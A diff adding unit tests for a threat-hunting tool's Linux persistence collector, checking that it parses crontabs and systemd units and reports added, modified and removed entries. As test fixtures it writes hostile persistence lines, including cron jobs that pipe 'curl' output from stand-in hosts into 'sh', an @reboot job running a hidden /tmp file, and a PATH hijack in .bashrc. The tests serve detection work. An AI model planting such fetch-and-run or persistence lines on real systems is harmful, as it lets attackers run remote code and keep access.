@@ -0,0 +1,109 @@
+import unittest
+import os
+import queue
+import shutil
+import tempfile
+from thhunt.collectors.base import iter_events
+from unittest import mock
+from thhunt.collectors.linux.persistence import LinuxPersistenceCollector, parse_system_crontab, parse_systemd_unit
+
+def write(root, path, text):
+    full = os.path.join(root, path.lstrip('/'))
+    os.makedirs(os.path.dirname(full), exist_ok=True)
+    with open(full, "w") as f:
+        f.write(text)
+    return full
+
+class TestPersistenceParsers(unittest.TestCase):
+    def test_system_crontab(self):
+        text = "SHELL=/bin/sh\n# comment\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot www-data /opt/app/start.sh\n"
+        self.assertEqual(parse_system_crontab("/etc/crontab", text), [
+            ("17 * * * *", "cd / && run-parts --report /etc/cron.hourly", "root"),
+            ("@reboot", "/opt/app/start.sh", "www-data"),
+        ])
+
+    def test_systemd_unit(self):
+        text = "[Service]\nExecStartPre=/bin/mkdir -p /run/x\nExecStart=/usr/bin/x --serve\nUser=svc\n"
+        self.assertEqual(parse_systemd_unit("/etc/systemd/system/x.service", text), [
+            ("x.service", "/bin/mkdir -p /run/x", "svc"),
+            ("x.service", "/usr/bin/x --serve", "svc"),
+        ])
+
+class TestLinuxPersistenceCollector(unittest.TestCase):
+    def setUp(self):
+        self.root = tempfile.mkdtemp()
+        self.manifest = os.path.join(tempfile.mkdtemp(), "manifest.json")
+        write(self.root, "/etc/crontab", "0 * * * * root /usr/bin/backup\n")
+        write(self.root, "/var/spool/cron/crontabs/alice", "*/5 * * * * /home/alice/sync.sh\n")
+        write(self.root, "/etc/systemd/system/app.service", "[Service]\nExecStart=/opt/app/run\n")
+        write(self.root, "/home/bob/.bashrc", "alias ll='ls -l'\n")
+        self.queue = queue.Queue()
+
+    def tearDown(self):
+        shutil.rmtree(self.root)
+        shutil.rmtree(os.path.dirname(self.manifest))
+
+    def _collector(self):
+        return LinuxPersistenceCollector(self.queue, manifest_path=self.manifest, root=self.root)
+
+    def _events(self):
+        events = []
+        while not self.queue.empty():
+            for e in iter_events(self.queue.get_nowait()):
+                p = e["payload"]
+                events.append((p["action"], p["mechanism"], p["path"], p["command"], p["user"]))
+        return sorted(events)
+
+    def test_first_scan_reports_existing(self):
+        self._collector().collect()
+        self.assertEqual(self._events(), [
+            ("existing", "crontab", "/etc/crontab", "/usr/bin/backup", "root"),
+            ("existing", "crontab", "/var/spool/cron/crontabs/alice", "/home/alice/sync.sh", "alice"),
+            ("existing", "shell_profile", "/home/bob/.bashrc", "alias ll='ls -l'", "bob"),
+            ("existing", "systemd", "/etc/systemd/system/app.service", "/opt/app/run", "root"),
+        ])
+
+    def test_only_changes_are_reported(self):
+        collector = self._collector()
+        collector.collect()
+        self._events()
+
+        write(self.root, "/etc/crontab", "0 * * * * root /usr/bin/backup\n* * * * * root curl -s http://x | sh\n")
+        write(self.root, "/etc/cron.d/evil", "@reboot root /tmp/.x\n")
+        os.remove(os.path.join(self.root, "etc/systemd/system/app.service"))
+        collector.collect()
+        self.assertEqual(self._events(), [
+            ("added", "crontab", "/etc/cron.d/evil", "/tmp/.x", "root"),
+            ("added", "crontab", "/etc/crontab", "curl -s http://x | sh", "root"),
+            ("removed", "systemd", "/etc/systemd/system/app.service", "/opt/app/run", "root"),
+        ])
+
+    def test_rewritten_cron_script_is_reported(self):
+        write(self.root, "/etc/cron.daily/job", "#!/bin/sh\nlogrotate /etc/logrotate.conf\n")
+        collector = self._collector()
+        collector.collect()
+        self._events()
+
+        write(self.root, "/etc/cron.daily/job", "#!/bin/sh\ncurl evil | sh\n")
+        collector.collect()
+        self.assertEqual(self._events(), [
+            ("modified", "cron_script", "/etc/cron.daily/job", "/etc/cron.daily/job", "root"),
+        ])
+
+    def test_unchanged_files_are_not_read(self):
+        collector = self._collector()
+        collector.collect()
+        self._events()
+        with mock.patch("builtins.open", side_effect=AssertionError("file was read")):
+            collector.collect()
+        self.assertEqual(self._events(), [])
+
+    def test_restart_resumes_from_manifest(self):
+        self._collector().collect()
+        self._events()
+        write(self.root, "/home/bob/.bashrc", "alias ll='ls -l'\nexport PATH=/tmp:$PATH\n")
+        self._collector().collect()
+        self.assertEqual(self._events(), [("added", "shell_profile", "/home/bob/.bashrc", "export PATH=/tmp:$PATH", "bob")])
+
+if __name__ == '__main__':
+    unittest.main()